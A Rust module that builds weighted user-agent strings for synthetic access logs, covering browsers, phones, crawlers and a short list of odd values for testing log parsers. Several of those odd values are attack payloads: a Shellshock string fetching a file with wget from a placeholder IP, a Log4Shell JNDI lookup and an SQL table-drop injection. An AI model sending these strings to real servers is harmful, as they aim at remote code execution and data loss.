//! User agents: those that fill real access logs, and a tail of versions, devices, tools and oddities.

/// A user agent as sent.
#[derive(Debug, Clone)]
pub(super) struct Agent {
    /// Any bytes; the log escapes them.
    pub(super) text: Vec<u8>,
    /// How often it comes, relative to the others.
    pub(super) weight: f64,
    /// Who is behind it: people send referers, robots seldom do.
    pub(super) robot: bool,
}

/// The first `count` of all agents, the well-known ones first; at least one.
pub(super) fn agents(count: u32) -> Vec<Agent> {
    let known = PEOPLE.iter().map(|&(weight, text)| agent(text, weight, false));
    let robots = ROBOTS.iter().map(|&(weight, text)| agent(text, weight, true));
    let odd = ODD.iter().map(|&text| Agent { text: text.to_vec(), weight: 0.6, robot: true });
    known.chain(robots).chain(odd).chain(tail()).take(count.max(1) as usize).collect()
}

fn agent(text: &str, weight: f64, robot: bool) -> Agent {
    Agent { text: text.as_bytes().to_vec(), weight, robot }
}

/// Older versions of browsers and many telephones, the newer the more frequent.
fn tail() -> impl Iterator<Item = Agent> {
    let chrome = (0..60).flat_map(|age| SYSTEMS.iter().map(move |system| chrome(age, system)));
    let firefox =
        (0..50).flat_map(|age| FIREFOX_SYSTEMS.iter().map(move |system| firefox(age, system)));
    let phones = (0..8).flat_map(|age| PHONES.iter().map(move |phone| telephone(age, phone)));
    chrome.chain(phones).chain(firefox)
}

fn chrome(age: u32, system: &str) -> Agent {
    let version = 141 - age;
    let text = format!(
        "Mozilla/5.0 ({system}) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/{version}.0.0.0 Safari/537.36"
    );
    agent(&text, fading(age), false)
}

fn firefox(age: u32, system: &str) -> Agent {
    let version = 143 - age;
    let text = format!("Mozilla/5.0 ({system}; rv:{version}.0) Gecko/20100101 Firefox/{version}.0");
    agent(&text, fading(age), false)
}

fn telephone(age: u32, phone: &str) -> Agent {
    let (system, version) = (15 - age % 6, 142 - 3 * age);
    let text = format!(
        "Mozilla/5.0 (Linux; Android {system}; {phone}) AppleWebKit/537.36 (KHTML, like Gecko) \
         Chrome/{version}.0.0.0 Mobile Safari/537.36"
    );
    agent(&text, fading(age), false)
}

fn fading(age: u32) -> f64 {
    1.0 / f64::from(age + 2)
}

const SYSTEMS: [&str; 4] = [
    "Windows NT 10.0; Win64; x64",
    "Macintosh; Intel Mac OS X 10_15_7",
    "X11; Linux x86_64",
    "Windows NT 6.1; Win64; x64",
];

const FIREFOX_SYSTEMS: [&str; 4] = [
    "Windows NT 10.0; Win64; x64",
    "Macintosh; Intel Mac OS X 10.15",
    "X11; Ubuntu; Linux x86_64",
    "Android 14; Mobile",
];

const PHONES: [&str; 24] = [
    "SM-S928B",
    "SM-S921B",
    "SM-S911B",
    "SM-A556B",
    "SM-A546B",
    "SM-A536B",
    "SM-A346B",
    "SM-A256B",
    "SM-A155F",
    "SM-G991B",
    "SM-G781B",
    "Pixel 9 Pro",
    "Pixel 8",
    "Pixel 7a",
    "Pixel 6",
    "2201117TG",
    "22101316G",
    "23117RA68G",
    "M2101K6G",
    "CPH2467",
    "CPH2581",
    "moto g84 5G",
    "moto g(30)",
    "XQ-DC54",
];

const PEOPLE: [(f64, &str); 24] = [
    (
        150.0,
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/142.0.0.0 Safari/537.36",
    ),
    (
        130.0,
        "Mozilla/5.0 (iPhone; CPU iPhone OS 18_6 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.6 Mobile/15E148 Safari/604.1",
    ),
    (
        120.0,
        "Mozilla/5.0 (Linux; Android 10; K) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/142.0.0.0 Mobile Safari/537.36",
    ),
    (
        60.0,
        "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/142.0.0.0 Safari/537.36",
    ),
    (
        50.0,
        "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.6 Safari/605.1.15",
    ),
    (
        45.0,
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/142.0.0.0 Safari/537.36 Edg/142.0.0.0",
    ),
    (40.0, "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:144.0) Gecko/20100101 Firefox/144.0"),
    (
        38.0,
        "Mozilla/5.0 (iPhone; CPU iPhone OS 17_7 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.7 Mobile/15E148 Safari/604.1",
    ),
    (
        35.0,
        "Mozilla/5.0 (Linux; Android 10; K) AppleWebKit/537.36 (KHTML, like Gecko) SamsungBrowser/28.0 Chrome/130.0.0.0 Mobile Safari/537.36",
    ),
    (
        30.0,
        "Mozilla/5.0 (Linux; Android 10; K) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/141.0.0.0 Mobile Safari/537.36",
    ),
    (
        28.0,
        "Mozilla/5.0 (iPhone; CPU iPhone OS 26_0 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/26.0 Mobile/15E148 Safari/604.1",
    ),
    (
        24.0,
        "Mozilla/5.0 (iPhone; CPU iPhone OS 18_6 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) CriOS/142.0.7444.46 Mobile/15E148 Safari/604.1",
    ),
    (
        20.0,
        "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/142.0.0.0 Safari/537.36",
    ),
    (
        18.0,
        "Mozilla/5.0 (iPad; CPU OS 18_6 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.6 Mobile/15E148 Safari/604.1",
    ),
    (
        16.0,
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/142.0.0.0 Safari/537.36 OPR/123.0.0.0",
    ),
    (14.0, "Mozilla/5.0 (X11; Linux x86_64; rv:144.0) Gecko/20100101 Firefox/144.0"),
    (14.0, "Mozilla/5.0 (Windows NT 6.1; Win64; x64; rv:109.0) Gecko/20100101 Firefox/115.0"),
    (12.0, "Mozilla/5.0 (Macintosh; Intel Mac OS X 10.15; rv:144.0) Gecko/20100101 Firefox/144.0"),
    (
        12.0,
        "Mozilla/5.0 (iPhone; CPU iPhone OS 18_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) GSA/390.0.811331708 Mobile/15E148 Safari/604.1",
    ),
    (
        10.0,
        "Mozilla/5.0 (iPhone; CPU iPhone OS 18_6 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/22G86 [FBAN/FBIOS;FBAV/536.0.0.49.69;FBBV/810834937;FBDV/iPhone15,2;FBMD/iPhone;FBSN/iOS;FBSV/18.6;FBSS/3;FBCR/;FBID/phone;FBLC/en_GB;FBOP/80]",
    ),
    (
        8.0,
        "Mozilla/5.0 (Linux; Android 14; SM-A546B Build/UP1A.231005.007; wv) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/142.0.7444.48 Mobile Safari/537.36",
    ),
    (8.0, "Mozilla/5.0 (Android 15; Mobile; rv:144.0) Gecko/144.0 Firefox/144.0"),
    (6.0, "ShopApp/5.12.1 (iPhone; iOS 18.6; Scale/3.00)"),
    (6.0, "okhttp/4.12.0"),
];

const ROBOTS: [(f64, &str); 26] = [
    (20.0, "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)"),
    (
        18.0,
        "Mozilla/5.0 (Linux; Android 6.0.1; Nexus 5X Build/MMB29P) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/141.0.7390.122 Mobile Safari/537.36 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
    ),
    (
        14.0,
        "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm) Chrome/136.0.0.0 Safari/537.36",
    ),
    (10.0, "Mozilla/5.0 (compatible; AhrefsBot/7.0; +http://ahrefs.com/robot/)"),
    (
        10.0,
        "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; GPTBot/1.2; +https://openai.com/gptbot)",
    ),
    (8.0, "Mozilla/5.0 (compatible; SemrushBot/7~bl; +http://www.semrush.com/bot.html)"),
    (
        8.0,
        "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; ClaudeBot/1.0; +claudebot@anthropic.com)",
    ),
    (
        6.0,
        "meta-externalagent/1.1 (+https://developers.facebook.com/docs/sharing/webmasters/crawler)",
    ),
    (6.0, "facebookexternalhit/1.1 (+http://www.facebook.com/externalhit_uatext.php)"),
    (
        6.0,
        "Mozilla/5.0 (Linux; Android 5.0) AppleWebKit/537.36 (KHTML, like Gecko) Mobile Safari/537.36 (compatible; Bytespider; spider-feedback@bytedance.com)",
    ),
    (5.0, "Mozilla/5.0 (compatible; YandexBot/3.0; +http://yandex.com/bots)"),
    (
        5.0,
        "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_5) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/13.1.1 Safari/605.1.15 (Applebot/0.1; +http://www.apple.com/go/applebot)",
    ),
    (5.0, "Mozilla/5.0 (compatible; PetalBot;+https://webmaster.petalsearch.com/site/petalbot)"),
    (
        4.0,
        "Mozilla/5.0 (compatible; DotBot/1.2; +https://opensiteexplorer.org/dotbot; help@moz.com)",
    ),
    (4.0, "Mozilla/5.0 (compatible; MJ12bot/v1.4.8; http://mj12bot.com/)"),
    (4.0, "Googlebot-Image/1.0"),
    (4.0, "kube-probe/1.31"),
    (3.0, "Mozilla/5.0+(compatible; UptimeRobot/2.0; http://www.uptimerobot.com/)"),
    (3.0, "curl/8.5.0"),
    (3.0, "python-requests/2.32.3"),
    (3.0, "Go-http-client/1.1"),
    (2.0, "Mozilla/5.0 zgrab/0.x"),
    (2.0, "Twitterbot/1.0"),
    (2.0, "Slackbot-LinkExpanding 1.0 (+https://api.slack.com/robots)"),
    (2.0, "Wget/1.21.4"),
    (2.0, "Java/17.0.12"),
];

/// What makes a careless parser stumble: quotes, backslashes, brackets, bytes that are not ASCII, things that look like
/// the end of a field.
const ODD: [&[u8]; 10] = [
    b"Mozilla/5.0 (compatible; \"Site Checker\" 2.1; +https://checker.example/)",
    b"() { :; }; /bin/bash -c \"wget -q http://198.51.100.7/x\"",
    b"Mozilla/5.0 (Windows NT 10.0) C:\\Program Files\\Agent\\",
    b"Mozilla/5.0 [en] (X11; U; Linux) \" 200 512 \"-",
    b"M\xc3\xbcller-Bot/1.0 (+https://m\xc3\xbcller.example/)",
    b"\xef\xbb\xbfMozilla/5.0",
    b"${jndi:ldap://198.51.100.9:1389/a}",
    b"'; DROP TABLE hits; --",
    b"Mozilla/4.0 (compatible; MSIE 6.0; Windows NT 5.1;\tSV1)",
    b"x",
];

#[cfg(test)]
mod tests {
    use super::*;
    use std::collections::HashSet;

    #[test]
    fn all_agents_differ() {
        let all = agents(u32::MAX);
        let distinct: HashSet<&[u8]> = all.iter().map(|agent| &agent.text[..]).collect();
        assert_eq!(distinct.len(), all.len());
        assert!(all.len() >= 600, "{}", all.len());
    }
}
